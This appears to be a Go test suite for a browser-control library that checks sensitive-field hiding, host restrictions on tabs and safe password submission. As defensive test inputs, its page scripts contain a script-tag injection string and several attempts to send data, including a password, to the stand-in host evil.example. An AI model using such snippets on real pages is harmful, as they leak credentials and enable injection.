package chrome

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/go-rod/rod/lib/proto"

	"parley/browser"
	"parley/browser/browsertest"
	"parley/control/grant"
	"parley/control/publish"
	"parley/control/shot"
	"parley/control/tabs"
	"parley/control/vault"
)

// rig is a real browser whose network is a map of pages.
type rig struct {
	t   *testing.T
	ctx context.Context
	b   *Browser
	m   *browser.Manager

	mu    sync.Mutex
	pages map[string]*Answer // by address without a query
	seen  []tabs.Request
}

func start(t *testing.T) *rig {
	t.Helper()
	m := browsertest.Manager(t, func(o *browser.Options) { o.Chromium.FramesInside = true })
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	t.Cleanup(cancel)
	r := &rig{t: t, ctx: ctx, m: m, pages: map[string]*Answer{}}
	r.b = New(m, browsertest.Me.Tenant, Options{Answer: r.answer, Log: browsertest.Log(t)})
	t.Cleanup(r.b.End)
	return r
}

// person opens a tab in front and types an address.
func (r *rig) person(ctx context.Context, address string) (string, error) {
	t, err := r.b.Create(ctx, "")
	if err != nil {
		return "", fmt.Errorf("create: %w", err)
	}
	if _, err := r.b.Activate(ctx, t.ID); err != nil {
		return t.ID, fmt.Errorf("activate: %w", err)
	}
	return t.ID, r.b.Enter(ctx, t.ID, address)
}

func (r *rig) answer(q tabs.Request) *Answer {
	if strings.HasPrefix(q.URL, "http://127.0.0.1:") {
		return nil // a real server of the test
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	r.seen = append(r.seen, q)
	address, _, _ := strings.Cut(q.URL, "?")
	address, _, _ = strings.Cut(address, "#")
	if a := r.pages[address]; a != nil {
		return a
	}
	return &Answer{Status: 404, Body: "none"}
}

// serve puts a page there.
func (r *rig) serve(address, html string) {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.pages[address] = &Answer{Status: 200, Header: map[string]string{"Content-Type": "text/html; charset=utf-8"}, Body: "<!doctype html><title>t</title>" + html}
}

// asked says whether a request whose address begins so went out.
func (r *rig) asked(prefix string) bool {
	r.mu.Lock()
	defer r.mu.Unlock()
	for _, q := range r.seen {
		if strings.HasPrefix(q.URL, prefix) {
			return true
		}
	}
	return false
}

// open shows a page in front.
func (r *rig) open(html string) string {
	r.t.Helper()
	r.serve("https://page.example/", html)
	ctx, cancel := context.WithTimeout(r.ctx, 40*time.Second)
	defer cancel()
	id, err := r.person(ctx, "https://page.example/")
	if err != nil {
		now, _ := r.b.Tab(r.ctx, id)
		r.t.Fatalf("%.60s: %v; loading %v, at %s", html, err, now.Loading, now.URL)
	}
	return id
}

func (r *rig) tab(id string) tabs.Tab {
	r.t.Helper()
	t, err := r.b.Tab(r.ctx, id)
	if err != nil {
		r.t.Fatal(err)
	}
	return t
}

// run runs a fixed script and gives what it says.
func (r *rig) run(id string, s tabs.Script, arg any) map[string]any {
	r.t.Helper()
	var out map[string]any
	if err := r.b.Run(r.ctx, id, r.tab(id).Document, s, arg, &out); err != nil {
		r.t.Fatalf("%s: %v", s, err)
	}
	return out
}

func (r *rig) view(id string) *view {
	r.t.Helper()
	x, err := r.b.of(r.ctx, id)
	if err != nil {
		r.t.Fatal(err)
	}
	return x
}

// eval runs a test's own script in the page's world.
func (r *rig) eval(id, js string) string {
	r.t.Helper()
	var session proto.TargetSessionID
	x := r.view(id)
	if err := x.with(id, "", func(t *tab) { session = t.session }); err != nil {
		r.t.Fatal(err)
	}
	v, err := proto.RuntimeEvaluate{Expression: js, ReturnByValue: true, AwaitPromise: true, UserGesture: true}.Call(x.b.Bind(r.ctx, session))
	if err != nil {
		r.t.Fatal(err)
	}
	if v.ExceptionDetails != nil {
		return "exception"
	}
	return v.Result.Value.Str()
}

// eventually waits until it is so.
func (r *rig) eventually(what string, ok func() bool) {
	r.t.Helper()
	for end := time.Now().Add(20 * time.Second); !ok(); {
		if time.Now().After(end) {
			r.t.Fatalf("%s: it does not come", what)
		}
		time.Sleep(20 * time.Millisecond)
	}
}

func TestReadingRealPages(t *testing.T) {
	r := start(t)
	id := r.open(`<body><h1>Hello</h1> <p>First <b>words</b>.</p><!-- comment --><script>var scriptWords = 1</script><style>.x{}</style>
		<p style="display:none">gone1</p><p style="visibility:hidden">gone2</p><p hidden>gone3</p><p aria-hidden="true">gone4</p><p style="opacity:0">gone5</p>
		<p style="position:absolute;left:-9999px">gone6</p><p style="font-size:1px">gone7</p><div data-sensitive>gone8</div>
		<input value="gone9"><textarea>gone10</textarea><select><option>gone11</select><div contenteditable>gone12</div><noscript>gone13</noscript><template>gone14</template>
		<p title="gone15" data-x="gone16">Last</p><div id="host"></div><script>document.cookie="gone17=1"; localStorage.setItem("k","gone18");
		const root = document.getElementById("host").attachShadow({mode:"open"}); root.innerHTML = "<p>Shadow words</p>";</script>`)
	got := r.run(id, tabs.Read, map[string]any{"max": 10000})
	text, _ := got["text"].(string)
	if strings.Contains(text, "gone") || strings.Contains(text, "comment") || strings.Contains(text, "scriptWords") || !strings.Contains(text, "First words.") || !strings.Contains(text, "Last") || !strings.Contains(text, "Shadow words") || got["complete"] != true {
		t.Errorf("%q %v", text, got)
	}
	for n, want := range map[int]int{9999: 9999, 10000: 10000, 10001: 10000} {
		id := r.open("<body>" + strings.Repeat("ä", n))
		got := r.run(id, tabs.Read, map[string]any{"max": 10000})
		if text, _ := got["text"].(string); len([]rune(text)) != want || got["cut"] != (n > 10000) {
			t.Errorf("%d characters: %d, cut %v", n, len([]rune(text)), got["cut"])
		}
	}
	id = r.open("<body>" + strings.Repeat("<div>", 500) + "deep")
	if got := r.run(id, tabs.Read, map[string]any{"max": 10000}); got["complete"] != false {
		t.Errorf("a page too deep to look through: %v", got)
	}
}

func TestInspectingRealPages(t *testing.T) {
	r := start(t)
	var options strings.Builder
	for i := range 25 {
		fmt.Fprintf(&options, "<option value=o%d>Option %d</option>", i, i)
	}
	id := r.open(`<body><a href="/x" id="link">A link</a><button name="go">Go</button><input name="q" value="kept"><input type=checkbox name=c checked>
		<input type=password name=p value=gone1><input type=hidden name=h value=gone2><input type=file name=f><input name="csrf_token" value=gone3><input name=otp value=gone4>
		<input autocomplete="cc-number" value=gone5><label>Password <input name=x value=gone6></label><input name=n style="display:none" value=gone7><input placeholder="Passwort" value=gone8>
		<select id=s>` + options.String() + `<option value="` + strings.Repeat("x", 129) + `">long</option><option hidden value=gone9>h</option></select>
		<select id=t><option value="` + strings.Repeat("y", 128) + `">fits</option><optgroup label="Secret"><option value=gone10>x</option></optgroup><option disabled value=gone11>x</option></select>`)
	raw, err := json.Marshal(r.run(id, tabs.Inspect, map[string]any{"max": 200, "options": 20}))
	if err != nil {
		t.Fatal(err)
	}
	s := string(raw)
	if strings.Contains(s, "gone") || strings.Contains(s, strings.Repeat("x", 129)) || !strings.Contains(s, strings.Repeat("y", 128)) || !strings.Contains(s, `"kept"`) || !strings.Contains(s, `"o19"`) || strings.Contains(s, `"o20"`) || !strings.Contains(s, "#link") {
		t.Errorf("%s", s)
	}
}

func TestWorkingRealPages(t *testing.T) {
	r := start(t)
	id := r.open(`<body><script>window.log=[]; addEventListener("submit", e => { e.preventDefault(); log.push("submit") }, true);</script>
		<form action="/send"><input id=q name=q onkeydown="if(event.key==='Enter')this.form.requestSubmit()" oninput="log.push('input')" onchange="log.push('change')">
		<textarea id=area></textarea><div id=edit contenteditable style="min-height:9px">old</div><input id=ro readonly value=a><input id=off disabled><button id=go type=button onclick="log.push('click '+event.isTrusted)">Go</button></form>
		<input id=p type=password><input id=f type=file><input id=h type=hidden><input id=tok name=authenticity_token><input id=gone style="display:none"><input class=two><input class=two>
		<div style="position:relative;width:120px;height:30px"><button id=under style="position:absolute;inset:0">under</button><div style="position:absolute;inset:0;background:#fff"></div></div>
		<select id=s onchange="log.push('chosen')"><option value=a>A<option value=b>B<option value=c disabled>C<option value=d hidden>D<option value=e>same<option value=e>same
		<optgroup label=x disabled><option value=g>G</optgroup><option value=pin>PIN</select>
		<input type=checkbox id=c><input type=radio id=r><input type=checkbox id=back onclick="setTimeout(()=>0);event.preventDefault()"><select id=revert onchange="this.value='a'"><option value=a>A<option value=b>B</select>`)
	logged := func() string { return r.eval(id, "log.splice(0).join(' ')") }
	evil := "\u2028</script><script>document.title='pwned'</script>\"'`${document.title='pwned'}\\"
	for _, c := range []struct {
		s    tabs.Script
		arg  map[string]any
		no   string
		logs string
	}{
		{tabs.Type, map[string]any{"selector": "#q", "text": "hello\n"}, "", "input change"},
		{tabs.Type, map[string]any{"selector": "#q", "text": evil}, "", "input change"},
		{tabs.Type, map[string]any{"selector": "#area", "text": "a\nb"}, "", ""},
		{tabs.Type, map[string]any{"selector": "#edit", "text": "<b>new</b>"}, "", ""},
		{tabs.Type, map[string]any{"selector": "#ro", "text": "x"}, "disabled", ""},
		{tabs.Type, map[string]any{"selector": "#off", "text": "x"}, "disabled", ""},
		{tabs.Type, map[string]any{"selector": "#p", "text": "x"}, "sensitive", ""},
		{tabs.Type, map[string]any{"selector": "#f", "text": "x"}, "sensitive", ""},
		{tabs.Type, map[string]any{"selector": "#tok", "text": "x"}, "sensitive", ""},
		{tabs.Type, map[string]any{"selector": "#h", "text": "x"}, "hidden", ""},
		{tabs.Type, map[string]any{"selector": "#gone", "text": "x"}, "hidden", ""},
		{tabs.Type, map[string]any{"selector": ".two", "text": "x"}, "many", ""},
		{tabs.Type, map[string]any{"selector": "#none", "text": "x"}, "none", ""},
		{tabs.Type, map[string]any{"selector": "#go", "text": "x"}, "kind", ""},
		{tabs.Click, map[string]any{"selector": "#go"}, "", "click false"},
		{tabs.Click, map[string]any{"selector": "#under"}, "covered", ""},
		{tabs.Click, map[string]any{"selector": "#p"}, "sensitive", ""},
		{tabs.Select, map[string]any{"selector": "#s", "value": "b"}, "", "chosen"},
		{tabs.Select, map[string]any{"selector": "#s", "value": "b"}, "", ""},
		{tabs.Select, map[string]any{"selector": "#s", "value": "c"}, "option", ""},
		{tabs.Select, map[string]any{"selector": "#s", "value": "d"}, "option", ""},
		{tabs.Select, map[string]any{"selector": "#s", "value": "e"}, "option", ""},
		{tabs.Select, map[string]any{"selector": "#s", "value": "g"}, "option", ""},
		{tabs.Select, map[string]any{"selector": "#s", "value": "pin"}, "option", ""},
		{tabs.Select, map[string]any{"selector": "#s", "value": "zzz"}, "option", ""},
		{tabs.Select, map[string]any{"selector": "#revert", "value": "b"}, "kept", ""},
		{tabs.Select, map[string]any{"selector": "#q", "value": "b"}, "kind", ""},
		{tabs.Check, map[string]any{"selector": "#c", "checked": true}, "", ""},
		{tabs.Check, map[string]any{"selector": "#c", "checked": true}, "", ""},
		{tabs.Check, map[string]any{"selector": "#r", "checked": true}, "kind", ""},
		{tabs.Check, map[string]any{"selector": "#back", "checked": true}, "kept", ""},
		{tabs.Scroll, map[string]any{"x": 0, "y": 5}, "", ""},
	} {
		got := r.run(id, c.s, c.arg)
		no, _ := got["no"].(string)
		if no != c.no || (c.no == "") != (got["done"] == true) {
			t.Errorf("%s %v: %v, want %q", c.s, c.arg, got, c.no)
		}
		if logs := logged(); logs != c.logs {
			t.Errorf("%s %v: the page saw %q, want %q", c.s, c.arg, logs, c.logs)
		}
	}
	if v := r.eval(id, "document.title + '|' + document.getElementById('edit').innerHTML + '|' + document.getElementById('c').checked + '|' + (document.getElementById('q').value.includes('</scr'+'ipt>'))"); v != "t|&lt;b&gt;new&lt;/b&gt;|true|true" {
		t.Errorf("%q", v)
	}
	// A script made for one address does nothing at another.
	document := r.tab(id).Document
	r.eval(id, "history.pushState({}, '', '/elsewhere')")
	var out map[string]any
	if err := r.view(id).with(id, "", func(t *tab) { t.URL = "https://page.example/" }); err != nil {
		t.Fatal(err)
	}
	if err := r.b.Run(r.ctx, id, document, tabs.Click, map[string]any{"selector": "#go"}, &out); err != nil || out["moved"] != true {
		t.Errorf("%v, %v", out, err)
	}
	// And none runs in a document that is gone.
	if _, err := r.b.Go(r.ctx, id, document, tabs.Move{Reload: true}); err != nil {
		t.Fatal(err)
	}
	if err := r.b.Run(r.ctx, id, document, tabs.Click, map[string]any{"selector": "#go"}, &out); !errors.Is(err, tabs.ErrDocument) {
		t.Errorf("%v", err)
	}
}

func TestMovingRealTabs(t *testing.T) {
	r := start(t)
	r.serve("https://page.example/2", "two")
	r.serve("https://other.example/", "other")
	id := r.open("one")
	first := r.tab(id)
	second, err := r.b.Go(r.ctx, id, first.Document, tabs.Move{URL: "https://page.example/2"})
	if err != nil || second.Document == first.Document || second.URL != "https://page.example/2" || second.Activation != first.Activation || second.Loading {
		t.Fatalf("%+v, %v", second, err)
	}
	if _, err := r.b.Go(r.ctx, id, first.Document, tabs.Move{URL: "https://other.example/"}); !errors.Is(err, tabs.ErrDocument) {
		t.Errorf("a stale document: %v", err)
	}
	if at, err := r.b.Entry(r.ctx, id, -1); err != nil || at != "https://page.example/" {
		t.Errorf("%q, %v", at, err)
	}
	back, err := r.b.Go(r.ctx, id, second.Document, tabs.Move{Delta: -1})
	if err != nil || back.URL != "https://page.example/" {
		t.Fatalf("%+v, %v", back, err)
	}
	again, err := r.b.Go(r.ctx, id, back.Document, tabs.Move{Reload: true})
	if err != nil || again.Document == back.Document {
		t.Errorf("%+v, %v", again, err)
	}
	if _, err := r.b.Entry(r.ctx, id, -9); !errors.Is(err, tabs.ErrNoEntry) {
		t.Errorf("%v", err)
	}
	other, err := r.person(r.ctx, "https://other.example/")
	if err != nil || r.tab(id).Foreground || !r.tab(other).Foreground {
		t.Errorf("%v", err)
	}
	front, err := r.b.Activate(r.ctx, id)
	if err != nil || front.Activation == first.Activation || r.tab(other).Foreground {
		t.Errorf("%+v, %v", front, err)
	}
	if err := r.b.Close(r.ctx, other); err != nil {
		t.Error(err)
	}
	if _, err := r.b.Tab(r.ctx, other); !errors.Is(err, tabs.ErrNoTab) {
		t.Errorf("%v", err)
	}
}

func permits(hosts ...string) func(string) bool {
	return grant.Authority{Hosts: [][]string{hosts}}.PermitsHost
}

// TestATabStaysBound: redirects, what the page loads, popups, frames and workers of a tab that a grant works; a person's
// address lifts it; service workers belong to no tab and never run.
func TestATabStaysBound(t *testing.T) {
	r := start(t)
	for _, u := range []string{"https://evil.example/img.png", "https://evil.example/frame", "https://evil.example/popup", "https://evil.example/quiet", "https://evil.example/link", "https://evil.example/", "https://page.example/ok"} {
		r.serve(u, "x")
	}
	r.mu.Lock()
	r.pages["https://page.example/away"] = &Answer{Status: 302, Header: map[string]string{"Location": "https://evil.example/"}}
	r.pages["https://page.example/worker.js"] = &Answer{Status: 200, Header: map[string]string{"Content-Type": "text/javascript"}, Body: "fetch('https://evil.example/worker')"}
	r.mu.Unlock()
	id := r.open("<body>page")
	if err := r.b.Restrict(r.ctx, id, tabs.Restriction{Principal: "a", Generation: 1, Hosts: []string{"page.example"}, Permits: permits("page.example")}); err != nil {
		t.Fatal(err)
	}
	r.eval(id, `new Image().src="https://evil.example/img.png"; const f=document.createElement("iframe"); f.src="https://evil.example/frame"; document.body.append(f); fetch("https://evil.example/fetch").catch(()=>0);
		new Worker("/worker.js"); navigator.sendBeacon("https://evil.example/beacon"); window.open("https://evil.example/popup"); window.open("https://evil.example/quiet", "_blank", "noopener");
		const a = document.createElement("a"); a.href = "https://evil.example/link"; a.target = "_blank"; a.rel = "noopener noreferrer"; document.body.append(a); a.click(); fetch("/ok"); try { new WebSocket("wss://evil.example/ws") } catch {} ; 'x'`)
	r.eventually("what is permitted", func() bool { return r.asked("https://page.example/ok") })
	r.eventually("refusals", func() bool { return r.b.Refused() >= 5 })
	if _, err := r.b.Go(r.ctx, id, r.tab(id).Document, tabs.Move{URL: "https://page.example/away"}); err == nil && r.tab(id).Host() == "evil.example" {
		t.Error("a redirect leads out")
	}
	if r.asked("https://evil.example/") {
		t.Error("a request went to a host that is not permitted")
	}
	if err := r.b.Enter(r.ctx, id, "https://evil.example/"); err != nil || !r.asked("https://evil.example/") || r.tab(id).Restricted != nil {
		t.Errorf("a person's address: %v", err)
	}
	// A real server on this machine, where a service worker may be registered.
	var hits sync.Map
	s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, q *http.Request) {
		hits.Store(q.URL.Path, true)
		if q.URL.Path == "/sw.js" {
			w.Header().Set("Content-Type", "text/javascript")
			fmt.Fprint(w, `fetch("/from-the-worker"); oninstall = () => fetch("/from-the-worker")`)
			return
		}
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprint(w, `<!doctype html><script>navigator.serviceWorker.register("/sw.js").then(() => fetch("/registered"), () => fetch("/failed"));
			new SharedWorker("/sw.js"); setTimeout(() => fetch("/later"), 700)</script>`)
	}))
	defer s.Close()
	s.URL = strings.Replace(s.URL, "localhost", "127.0.0.1", 1)
	if err := r.b.Enter(r.ctx, id, s.URL+"/"); err != nil {
		t.Fatal(err)
	}
	r.eventually("the page goes on", func() bool { _, ok := hits.Load("/later"); return ok })
	if _, ok := hits.Load("/from-the-worker"); ok {
		t.Error("a worker that belongs to no tab reached the network")
	}
}

// TestASubmissionInARealBrowser: the one that was prepared goes, and nothing else carries the password.
func TestASubmissionInARealBrowser(t *testing.T) {
	r := start(t)
	form := publish.Form{Action: "https://page.example/session", User: "user", Pass: "pass"}
	const password = "Tr0ub4dor & 3"
	html := `<body><form method=post action="/session"><input name=user><input name=pass type=password><input type=hidden name=lang value=en><button id=go>In</button></form>`
	for _, c := range []struct {
		what   string
		armed  bool
		send   string // what the page or the person does
		answer *Answer
		sent   bool
		last   vault.Phase
	}{
		{"prepared", true, `document.forms[0].requestSubmit()`, &Answer{Status: 200, Body: "in"}, true, vault.Completed},
		{"prepared, then 302", true, `document.forms[0].requestSubmit()`, &Answer{Status: 302, Header: map[string]string{"Location": "https://page.example/home"}}, true, vault.Completed},
		{"prepared, then 307", true, `document.forms[0].requestSubmit()`, &Answer{Status: 307, Header: map[string]string{"Location": "https://page.example/again"}}, true, vault.Failed},
		{"filled in only", false, `document.forms[0].requestSubmit()`, nil, false, ""},
		{"by fetch", true, `fetch("/session", {method: "POST", body: new URLSearchParams(new FormData(document.forms[0]))}).catch(() => 0)`, nil, false, vault.Denied},
		{"as multipart", true, `document.forms[0].enctype = "multipart/form-data"; document.forms[0].requestSubmit()`, nil, false, vault.Denied},
		{"elsewhere", true, `document.forms[0].action = "https://evil.example/session"; document.forms[0].requestSubmit()`, nil, false, vault.Denied},
		{"with the password twice", true, `document.forms[0].lang.value = document.forms[0].pass.value; document.forms[0].requestSubmit()`, nil, false, vault.Denied},
		{"into a frame", true, `const f = document.createElement("iframe"); f.name = "f"; document.body.append(f); document.forms[0].target = "f"; document.forms[0].requestSubmit()`, nil, false, vault.Denied},
		{"in an address", true, `new Image().src = "https://evil.example/?" + new URLSearchParams({p: document.forms[0].pass.value})`, nil, false, vault.Prepared},
	} {
		r.mu.Lock()
		r.seen = nil
		r.pages = map[string]*Answer{"https://page.example/session": c.answer, "https://page.example/home": {Status: 200, Body: "home"}, "https://page.example/again": {Status: 200, Body: "again"}}
		if c.answer == nil {
			delete(r.pages, "https://page.example/session")
		}
		r.mu.Unlock()
		id := r.open(html)
		if got := r.run(id, tabs.Forms, map[string]any{"forms": []any{map[string]string{"action": form.Action, "user": "user", "pass": "pass"}}}); fmt.Sprint(got["forms"]) != "[0]" {
			t.Fatalf("%v", got)
		}
		var mu sync.Mutex
		var phases []vault.Phase
		lease := vault.NewLease(vault.Terms{Form: form, Tab: id, Document: r.tab(id).Document, Armed: c.armed, Still: func() bool { return true }, Now: time.Now,
			Tell: func(p vault.Phase) { mu.Lock(); defer mu.Unlock(); phases = append(phases, p) }}, vault.Login{User: "ada", Pass: password})
		if err := r.b.Watch(r.ctx, id, lease); err != nil {
			t.Fatal(err)
		}
		if got := r.run(id, tabs.Fill, map[string]string{"action": form.Action, "user": "user", "pass": "pass", "userValue": "ada", "passValue": password}); got["done"] != true {
			t.Fatalf("%v", got)
		}
		refused := r.b.Refused()
		r.eval(id, c.send+"; 'x'")
		if c.sent {
			r.eventually(c.what, func() bool { mu.Lock(); defer mu.Unlock(); return phases[len(phases)-1] == c.last })
		} else {
			r.eventually(c.what, func() bool { return r.b.Refused() > refused })
		}
		mu.Lock()
		if n := len(phases); c.last != "" && (n == 0 || phases[n-1] != c.last) || c.last == "" && n != 0 {
			t.Errorf("%s: %v, want %s", c.what, phases, c.last)
		}
		mu.Unlock()
		r.mu.Lock()
		for _, q := range r.seen {
			carries := strings.Contains(q.URL+string(q.Body), "Tr0ub4dor")
			if carries && (!c.sent || q.URL != form.Action) {
				t.Errorf("%s: the password went to %s", c.what, q.URL)
			}
		}
		r.mu.Unlock()
		if c.sent != r.asked(form.Action) || r.asked("https://page.example/again") {
			t.Errorf("%s: sent %v, again %v", c.what, r.asked(form.Action), r.asked("https://page.example/again"))
		}
		if err := r.b.Close(r.ctx, id); err != nil {
			t.Error(err)
		}
	}
}

func TestPicturesOfRealPages(t *testing.T) {
	r := start(t)
	for what, c := range map[string]struct {
		html      string
		structure tabs.Structure
		sensitive float64
	}{
		"plain":       {"<body>hello", tabs.Structure{}, 0},
		"a password":  {"<body><input type=password>", tabs.Structure{}, 1},
		"off-screen":  {`<body><input type=password style="position:absolute;left:-9999px">`, tabs.Structure{}, 1},
		"not shown":   {`<body><input autocomplete="cc-number" style="display:none">`, tabs.Structure{}, 1},
		"in a root":   {`<body><div id=h></div><script>h.attachShadow({mode:"open"}).innerHTML="<div id=i></div>"; h.shadowRoot.firstChild.attachShadow({mode:"open"}).innerHTML="<input name=otp>"</script>`, tabs.Structure{}, 1},
		"closed root": {`<body><div id=h></div><script>h.attachShadow({mode:"closed"}).innerHTML="x"</script>`, tabs.Structure{Closed: 1}, 0},
		"declarative": {`<body><div><template shadowrootmode=open>x</template></div>`, tabs.Structure{Declarative: 1}, 0},
		"a frame":     {`<body><iframe src="about:blank"></iframe>`, tabs.Structure{Frames: 1}, 0},
	} {
		id := r.open(c.html)
		s, err := r.b.Structure(r.ctx, id, r.tab(id).Document)
		if err != nil || s != c.structure {
			t.Errorf("%s: %+v, %v", what, s, err)
		}
		if got := r.run(id, tabs.Look, map[string]bool{"begin": true}); got["sensitive"] != c.sensitive {
			t.Errorf("%s: %v", what, got)
		}
	}
	id := r.open("<body><p id=p>words</p>")
	for what, change := range map[string]string{
		"nothing":             "",
		"a change and back":   `p.textContent = "other"; p.textContent = "words"`,
		"an attribute":        `p.setAttribute("x", "1")`,
		"a new root":          `const d = document.createElement("div"); d.attachShadow({mode: "open"}); document.body.append(d)`,
		"inside the new root": `document.querySelector("div").shadowRoot.innerHTML = "x"`,
	} {
		if what == "inside the new root" && r.eval(id, `String(!!document.querySelector("div"))`) != "true" {
			continue // the order of a map: there is no root yet
		}
		r.run(id, tabs.Look, map[string]bool{"begin": true})
		if change != "" {
			r.eval(id, change+"; 'x'")
		}
		got := r.run(id, tabs.Look, map[string]bool{"end": true})
		if n, _ := got["revision"].(float64); (n > 0) != (change != "") {
			t.Errorf("%s: %v", what, got)
		}
	}
	png, err := r.b.Picture(r.ctx, id, r.tab(id).Document)
	if err != nil {
		t.Fatal(err)
	}
	if p, err := shot.Clean(png); err != nil || p.Width < 200 {
		t.Errorf("%v", err)
	}
	other := r.open("<body>other")
	if _, err := r.b.Picture(r.ctx, id, r.tab(id).Document); !errors.Is(err, tabs.ErrBackground) {
		t.Errorf("%v", err)
	}
	_ = other
}

func (r *rig) front() tabs.Tab {
	all, err := r.b.Tabs(r.ctx)
	if err != nil {
		r.t.Fatal(err)
	}
	for _, t := range all {
		if t.Foreground {
			return t
		}
	}
	return tabs.Tab{}
}
